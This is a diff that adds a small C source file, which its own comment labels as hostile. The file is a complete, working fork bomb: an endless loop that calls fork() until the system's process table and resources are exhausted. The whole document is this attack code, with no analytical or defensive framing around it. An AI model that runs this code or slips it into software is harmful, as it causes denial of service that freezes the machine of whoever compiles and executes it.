@@ -1,0 +1,7 @@
+// Hostile: a fork loop that never ends.
+#include <unistd.h>
+int main()
+{
+    for (;;)
+        fork();
+}
